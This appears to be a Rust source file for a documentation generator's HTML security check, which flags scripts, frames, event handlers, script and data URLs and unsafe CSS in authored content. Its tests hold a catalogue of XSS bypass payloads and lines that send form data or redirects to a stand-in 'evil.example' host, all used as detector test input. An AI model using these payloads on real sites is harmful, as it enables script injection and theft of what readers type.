//! Unsafe HTML in content: scripts, embedded frames, inline event handlers
//! and script or data URLs. Content comes from many hands; these are errors
//! unless a site lowers their level in helpgen.toml (`[checks]`). Runs on
//! the content's own HTML, before helpgen inserts any of its own.

use std::ops::Range;

use pulldown_cmark::{Event, Tag};

use crate::diag::{Code, Diagnostic};
use crate::dialect::Expanded;
use crate::syntax::html;

/// Checks the content's events as the parser gives them. All the raw HTML
/// of an article, blocks and inline pieces, is read as one text in order,
/// as the browser reads the page: an element opened in one piece (a
/// `<noscript>`, an `<xmp>`, an `<svg>`) still holds in the next.
#[derive(Default)]
pub struct Security {
    /// The article's raw HTML so far, its pieces joined by line breaks.
    html: String,
    /// Where each piece starts in `html` and in the expanded Markdown.
    pieces: Vec<(usize, usize)>,
    /// Where the page's own markup stands between two pieces.
    boundaries: Vec<usize>,
    /// The last piece was a line of the HTML block still being read.
    in_block: bool,
}

impl Security {
    #[inline]
    pub fn check(&mut self, event: &Event, range: &Range<usize>, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
        match event {
            Event::Html(html) => {
                if !self.in_block {
                    self.boundary();
                }
                self.in_block = true;
                self.push(html, range.start);
            }
            Event::InlineHtml(html) => {
                self.boundary();
                self.push(html, range.start);
            }
            Event::Start(Tag::Link { dest_url: url, .. } | Tag::Image { dest_url: url, .. }) => {
                if let Some(finding) = unsafe_url(url) {
                    diags.push(finding.at(expanded.location(range.start)));
                }
            }
            _ => {}
        }
    }

    pub fn end_block(&mut self) {
        self.in_block = false;
    }

    /// The article ends: the findings in its HTML, where they are written.
    pub fn finish(&mut self, expanded: &Expanded, diags: &mut Vec<Diagnostic>) {
        for (offset, finding) in scan_html(&self.html, &self.boundaries, expanded.allow_frames_from) {
            let piece = self.pieces.partition_point(|&(start, _)| start <= offset).saturating_sub(1);
            let (start, source) = self.pieces.get(piece).copied().unwrap_or_default();
            diags.push(finding.at(expanded.location(source + offset.saturating_sub(start))));
        }
        *self = Security::default();
    }

    fn boundary(&mut self) {
        if !self.html.is_empty() {
            self.boundaries.push(self.html.len());
            self.html.push('\n');
        }
    }

    fn push(&mut self, html: &str, source: usize) {
        self.pieces.push((self.html.len(), source));
        self.html.push_str(html);
    }
}

/// Findings in raw HTML, with their byte offsets in it. `boundaries` are
/// where, in the page, helpgen's own markup stands between pieces of it.
/// Frames are allowed from addresses that start with one of `frames_from`
/// (a video host the site trusts), unless they carry a page of their own.
pub fn scan_html(html: &str, boundaries: &[usize], frames_from: &[String]) -> Vec<(usize, Diagnostic)> {
    let mut findings = Vec::new();
    let mut tags = html::start_tags(html).with_boundaries(boundaries);
    for tag in &mut tags {
        let allowed_frame = tag.name == "iframe"
            && tag
                .attribute("src")
                .is_some_and(|src| frames_from.iter().any(|from| src.value.starts_with(from.as_str())))
            && tag.attribute("srcdoc").is_none();
        if allowed_frame {
            continue;
        }
        if let Some(finding) = element_finding(&tag, html, boundaries) {
            findings.push((tag.at, finding));
        }
        for attribute in &tag.attributes {
            if let Some(finding) = attribute_finding(&tag, attribute) {
                findings.push((attribute.at, finding));
            }
        }
    }
    for at in tags.unclosed() {
        let d = Diagnostic::new(
            Code::SecurityMarkup,
            "this tag is not closed where its HTML ends, so the page's own markup after it would be read into it",
        )
        .with_help("end the tag with `>` on the same line, before a blank line");
        findings.push((at, d));
    }
    findings.sort_by_key(|(at, _)| *at);
    findings
}

/// What an element can do to the page by being there.
fn element_finding(tag: &html::StartTag, html: &str, boundaries: &[usize]) -> Option<Diagnostic> {
    let name = tag.name.as_str();
    let page = |message: String| {
        Diagnostic::new(Code::SecurityMarkup, message)
            .with_help("content may format text, not change what the page loads or where it sends readers")
    };
    match name {
        "script" => Some(Diagnostic::new(Code::SecurityScript, "`<script>` in content").with_help(
            "scripts belong in the theme; content is written by many hands and runs on every reader's browser",
        )),
        "iframe" | "frame" | "frameset" | "object" | "embed" => {
            Some(Diagnostic::new(Code::SecurityIframe, format!("`<{name}>` embeds another page in content")).with_help(
                "allow it for the whole site with `\"security.iframe\" = \"off\"` under `[checks]` in helpgen.toml",
            ))
        }
        "base" => Some(page("`<base>` changes where every link and request of the page goes".into())),
        "meta" if tag.attribute("http-equiv").is_some() => {
            Some(page("`<meta http-equiv>` can redirect the page or change its security policy".into()))
        }
        "link" => Some(page("`<link>` loads a resource into the page".into())),
        "form" if tag.attribute("action").is_some_and(|a| leaves_the_site(&a.value)) => {
            Some(page("this form sends what readers type to another site".into()))
        }
        "style" => {
            let start = tag.end.min(html.len());
            let content = &html[start..];
            let close = content.to_ascii_lowercase().find("</style").unwrap_or(content.len());
            // Left open past its piece, it would take the page's text as CSS.
            if boundaries.iter().any(|&b| b >= start && b < start + close) || close == content.len() {
                return Some(page(
                    "this `<style>` is not closed in its HTML, so the page's text after it would be read as CSS".into(),
                ));
            }
            unsafe_css(&content[..close]).map(|why| page(format!("this style sheet {why}")))
        }
        _ => None,
    }
}

/// What an attribute can run or load.
fn attribute_finding(tag: &html::StartTag, attribute: &html::Attribute) -> Option<Diagnostic> {
    let name = attribute.name.as_str();
    if attribute.is_event_handler() {
        let d = Diagnostic::new(Code::SecurityEventHandler, format!("the event handler `{name}` runs a script"));
        return Some(d.with_help("remove it; interactive behaviour belongs in the theme's scripts"));
    }
    if URL_ATTRIBUTES.contains(&name) {
        return unsafe_url(&attribute.value);
    }
    // SVG animations set another attribute, such as `href`, to these values.
    if ANIMATIONS.contains(&tag.name.as_str()) && matches!(name, "to" | "from" | "by" | "values") {
        return attribute.value.split(';').find_map(unsafe_url);
    }
    if name == "style" {
        let why = unsafe_css(&attribute.value)?;
        let d = Diagnostic::new(Code::SecurityMarkup, format!("this style {why}"));
        return Some(d.with_help("use the theme's classes (`{:.class}`) instead of styles that load or run things"));
    }
    None
}

/// SVG elements that change another attribute over time.
const ANIMATIONS: &[&str] = &["set", "animate", "animatemotion", "animatetransform"];

/// An address on another site (or of another scheme), where a form would
/// send what readers type.
fn leaves_the_site(url: &str) -> bool {
    let url = url.trim();
    url.starts_with("//") || url.contains(':')
}

/// What a piece of CSS would load or run, if anything: a script URL, an
/// `@import`, an old `expression()` or a binding, however it is escaped.
fn unsafe_css(css: &str) -> Option<&'static str> {
    let plain = plain_css(css);
    if plain.contains("@import") {
        return Some("imports another style sheet");
    }
    if plain.contains("expression(") || plain.contains("-moz-binding") || plain.contains("behavior:") {
        return Some("runs script");
    }
    let mut rest = plain.as_str();
    while let Some(at) = rest.find("url(") {
        rest = &rest[at + 4..];
        let target = rest.trim_start_matches(['"', '\'']);
        if ["javascript:", "vbscript:"].iter().any(|s| target.starts_with(s)) {
            return Some("loads a script URL");
        }
    }
    None
}

/// CSS as the browser reads it, for matching: comments out, escapes
/// (`\6a`, `\:`) decoded, blanks out, lowercase.
fn plain_css(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut last = ' ';
                for c in chars.by_ref() {
                    if last == '*' && c == '/' {
                        break;
                    }
                    last = c;
                }
            }
            '\\' => {
                let hex: String = std::iter::from_fn(|| chars.next_if(char::is_ascii_hexdigit)).take(6).collect();
                let decoded = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32);
                match (decoded, hex.is_empty()) {
                    (Some(c), false) => out.push(c),
                    _ => out.extend(chars.next()),
                }
            }
            c if c.is_whitespace() || c.is_control() => {}
            c => out.extend(c.to_lowercase()),
        }
    }
    out
}

/// Attributes whose value a browser loads or follows as a URL.
const URL_ATTRIBUTES: &[&str] = &["href", "src", "action", "formaction", "xlink:href", "data", "poster"];

/// A `javascript:`, `vbscript:` or `data:` URL, however it is disguised
/// with case, spaces or control characters. The URL comes decoded, from the
/// HTML tokenizer or from the Markdown parser, as the browser will see it.
pub fn unsafe_url(url: &str) -> Option<Diagnostic> {
    // Most URLs start with a letter none of these schemes starts with.
    let first = url.chars().find(|c| !c.is_whitespace() && !c.is_control());
    if !matches!(first.map(|c| c.to_ascii_lowercase()), Some('j' | 'v' | 'd')) {
        return None;
    }
    // Browsers ignore blanks and control characters in a scheme.
    let plain = url.chars().filter(|c| !c.is_whitespace() && !c.is_control()).map(|c| c.to_ascii_lowercase());
    let scheme = ["javascript:", "vbscript:", "data:"].into_iter().find(|scheme| {
        let mut plain = plain.clone();
        scheme.chars().all(|s| plain.next() == Some(s))
    })?;
    Some(
        Diagnostic::new(Code::SecurityUrl, format!("a `{scheme}` URL in content")).with_help(
            "link to a page or a file instead; script and data URLs run or hide code in the reader's browser",
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(html: &str) -> Vec<(usize, Code)> {
        scan_html(html, &[], &[]).into_iter().map(|(at, d)| (at, d.code)).collect()
    }

    #[test]
    fn finds_scripts_frames_handlers_and_bad_urls() {
        assert_eq!(codes("<script>alert(1)</script>"), [(0, Code::SecurityScript)]);
        assert_eq!(codes("<p>x<IFRAME src=\"https://x\"></iframe>"), [(4, Code::SecurityIframe)]);
        assert_eq!(codes("<img src=x onerror=\"alert(1)\">"), [(11, Code::SecurityEventHandler)]);
        assert_eq!(codes("<a href=\"JaVaScRiPt:alert(1)\">x</a>"), [(3, Code::SecurityUrl)]);
        assert_eq!(codes("<a href=' &#106;avascript&colon;x'>"), [(3, Code::SecurityUrl)]);
        assert_eq!(codes("<img src=\"data:image/png;base64,AAAA\">"), [(5, Code::SecurityUrl)]);
    }

    /// The browser ends `<noscript>` at its closing tag even inside what
    /// looks like an attribute value, so the image after it is real.
    #[test]
    fn sees_markup_where_the_browser_does() {
        let html = "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>";
        assert_eq!(codes(html), [(html.find("onerror").unwrap(), Code::SecurityEventHandler)]);
    }

    /// Ways in: each must be found. Raw-text tricks, entity and CSS
    /// escapes, SVG and MathML, page control.
    #[test]
    fn bypass_attempts_are_found() {
        let attempts = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=x oNeRrOr=alert(1)>",
            "<img/src=x/ onerror=alert(1)>",
            "<img src=\"x\" onerror  =  \"alert(1)\">",
            "<svg onload=alert(1)>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input type=image src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
            "<a href=\"javascript&#58;alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<button formaction=\"javascript:alert(1)\">x</button>",
            "<video poster=\"javascript:alert(1)\"></video>",
            "<isindex action=\"javascript:alert(1)\">",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"x.swf\"></object>",
            "<embed src=\"x.swf\">",
            "<form action=\"https://evil.example/steal\"><input name=p></form>",
            "<form action=\"//evil.example/steal\"></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<style>@import url(https://evil.example/x.css);</style>",
            "<style>@imp\\6f rt 'x.css';</style>",
            "<style>body { background: url(javascript:alert(1)) }</style>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<div style=\"background:url('java\\73 cript:alert(1)')\">x</div>",
            "<div style=\"background:url(/*x*/javascript:alert(1))\">x</div>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
            "<svg><animate attributeName=\"href\" values=\"x;javascript:alert(1)\"/></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<style><p title=\"</style><img src=x onerror=alert(1)>\"></style>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
            "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
            "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
            "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
            // In SVG and MathML, `<style>` and `<title>` hold markup, and
            // `<img>` breaks out of them into the page.
            "<div>\n<svg><style><img src=x onerror=alert(1)></style></svg>\n</div>",
            "<div>\n<math><style><img src=x onerror=alert(1)></style></math>\n</div>",
            "<div>\n<svg><title><img src=x onerror=alert(1)></title></svg>\n</div>",
            "<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            // A tag left open takes the page's markup after it.
            "<div title=\"x",
            "<img src=x",
            "<style>p { color: red }",
        ];
        let missed: Vec<&str> = attempts.into_iter().filter(|html| scan_html(html, &[], &[]).is_empty()).collect();
        assert!(missed.is_empty(), "not found: {missed:#?}");
    }

    /// Where the browser reads a `<style>` or `<title>` as text, what it
    /// holds is text: in HTML, in an SVG or MathML integration point, and
    /// after a tag that ends foreign content.
    #[test]
    fn text_elements_hold_text_where_the_browser_says_so() {
        for html in [
            "<style><img src=x onerror=alert(1)></style>",
            "<svg><foreignObject><style><img src=x onerror=alert(1)></style></foreignObject></svg>",
            "<svg><desc><title><img src=x onerror=alert(1)></title></desc></svg>",
            "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
            "<svg><style>circle { fill: red }</style><circle r=\"1\"/></svg><style><img src=x onerror=alert(1)></style>",
            "<plaintext><img src=x onerror=alert(1)>",
            // The mutation-XSS shape: in one parse, `<mglyph>` under a table
            // is an HTML element, so its `<style>` is text.
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
        ] {
            assert_eq!(codes(html), [], "{html}");
        }
    }

    /// Pieces of an article's HTML with the page's markup between them: a
    /// tag that runs across that markup is reported, where it starts.
    #[test]
    fn tags_across_the_pages_markup_are_reported() {
        let html = "<div title=\"x\n<b title=\">\">";
        assert_eq!(codes(html), []);
        let found: Vec<(usize, Code)> = scan_html(html, &[13], &[]).into_iter().map(|(at, d)| (at, d.code)).collect();
        assert_eq!(found, [(0, Code::SecurityMarkup)]);
        let open = scan_html("<p>ok</p><img src=x", &[], &[]);
        assert_eq!(open.iter().map(|(at, d)| (*at, d.code)).collect::<Vec<_>>(), [(9, Code::SecurityMarkup)]);
        let style = "<style>p { color: red }\n</style>";
        assert_eq!(scan_html(style, &[], &[]).len(), 0);
        assert_eq!(scan_html(style, &[23], &[]).len(), 1);
    }

    /// What looks like a handler but is not one to a browser: here the
    /// unquoted `src` value runs on to the `>`.
    #[test]
    fn reads_attributes_as_the_browser_does() {
        assert!(scan_html("<img/src=x/onerror=alert(1)>", &[], &[]).is_empty());
    }

    /// A site may trust one video host: its frames pass; frames from
    /// elsewhere, or carrying a page of their own (`srcdoc`), do not.
    #[test]
    fn frames_from_an_allowed_host_pass() {
        let allowed = ["https://www.youtube-nocookie.com/embed/".to_string()];
        let video = "<iframe src=\"https://www.youtube-nocookie.com/embed/abc\" allowfullscreen></iframe>";
        assert!(scan_html(video, &[], &allowed).is_empty());
        assert!(!scan_html(video, &[], &[]).is_empty());
        let elsewhere = "<iframe src=\"https://www.youtube-nocookie.com.evil.example/embed/\"></iframe>";
        assert!(!scan_html(elsewhere, &[], &allowed).is_empty());
        let srcdoc = "<iframe src=\"https://www.youtube-nocookie.com/embed/a\" srcdoc=\"<script>x</script>\">";
        assert!(!scan_html(srcdoc, &[], &allowed).is_empty());
    }

    #[test]
    fn leaves_ordinary_html_alone() {
        for html in [
            "<sup>1</sup>",
            "<span class=\"beta-icon\" title=\"on time\">Beta</span>",
            "<a href=\"https://example.com/javascript:\">x</a>",
            "<!-- <script>old</script> -->",
            "<style>\ntable { width: 100% }\n</style>",
            "<a id=\"legacy\" name=\"online\"></a>",
            "<p data-one=\"x > y\" online>",
            "<style>.note { background: url(/assets/img/note.png) }</style>",
            "<div style=\"color: #c00; margin-left: 1em\">x</div>",
            "<form action=\"/search/\"><input name=q></form>",
            "<meta name=\"robots\" content=\"noindex\">",
        ] {
            assert!(codes(html).is_empty(), "{html}: {:?}", codes(html));
        }
    }

    #[test]
    fn markdown_urls_are_checked_too() {
        assert!(unsafe_url("javascript:alert(1)").is_some());
        assert!(unsafe_url("java\tscript:alert(1)").is_some());
        assert!(unsafe_url("https://example.com").is_none());
        assert!(unsafe_url("/files/data:x").is_none());
    }
}
